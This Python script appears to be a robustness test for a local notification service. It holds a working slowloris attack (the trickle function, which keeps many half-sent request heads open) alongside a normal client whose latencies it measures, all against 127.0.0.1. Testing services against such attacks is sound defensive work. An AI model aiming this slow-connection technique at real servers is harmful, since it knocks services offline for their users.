# SPDX-License-Identifier: MIT
"""Slow clients against orvantis-notifyd: CONNECTIONS connections from ATTACKER_ADDRESS that
trickle a request head a byte at a time and never finish it (opening new ones as the
service closes them), while a normal client from 127.0.0.1 posts the program's own request
REQUESTS times, one after the other. Prints the normal client's latencies.
    python3 notifyd_slowloris.py PORT ATTACKER_ADDRESS CONNECTIONS REQUESTS
"""
import socket
import sys
import threading
import time

PORT, ATTACKER, CONNECTIONS, REQUESTS = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
BOUNDARY = "---------------------------7da138124d076e"
FIELDS = [("type", "gold"), ("email", "user@example.com"), ("last", "1650.00"), ("new", "1662.50"),
          ("chg", "12.50")]
BODY = "".join(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
               for name, value in FIELDS) + f"--{BOUNDARY}--\r\n"
REQUEST = (f"POST /price_notify.php HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
           f"Content-Type: multipart/form-data; boundary={BOUNDARY}\r\n"
           f"Content-Length: {len(BODY)}\r\n\r\n{BODY}").encode()
stop = threading.Event()


def trickle():
    """Keeps CONNECTIONS slow connections open, a byte on each every half second."""
    open_sockets = []
    head = b"POST /price_notify.php HTTP/1.1\r\nX-Slow: " + b"a" * 10000
    while not stop.is_set():
        while len(open_sockets) < CONNECTIONS:
            s = socket.socket()
            s.bind((ATTACKER, 0))
            s.setblocking(False)
            s.connect_ex(("127.0.0.1", int(PORT)))
            open_sockets.append([s, 0])
        kept = []
        for entry in open_sockets:
            s, sent = entry
            try:
                sent += s.send(head[sent:sent + 1])
                kept.append([s, sent])
            except BlockingIOError:
                kept.append(entry)
            except OSError:
                s.close()
        open_sockets = kept
        time.sleep(0.5)
    for s, _ in open_sockets:
        s.close()


def timed_request():
    start = time.monotonic()
    answer = b""
    try:
        with socket.create_connection(("127.0.0.1", int(PORT)), timeout=60) as s:
            s.sendall(REQUEST)
            while chunk := s.recv(4096):
                answer += chunk
    except OSError:
        pass
    return time.monotonic() - start, answer[9:12].decode(errors="replace") or "none"


attacker = threading.Thread(target=trickle)
attacker.start()
time.sleep(3)
results = [timed_request() for _ in range(REQUESTS)]
stop.set()
attacker.join()
latencies = sorted(latency for latency, _ in results)
statuses = {}
for _, status in results:
    statuses[status] = statuses.get(status, 0) + 1
p = lambda q: latencies[min(len(latencies) - 1, int(q * len(latencies)))]
print(f"p50 {p(0.50) * 1000:.1f} ms, p95 {p(0.95) * 1000:.1f} ms, max {latencies[-1] * 1000:.1f} ms, "
      f"answers {statuses}")
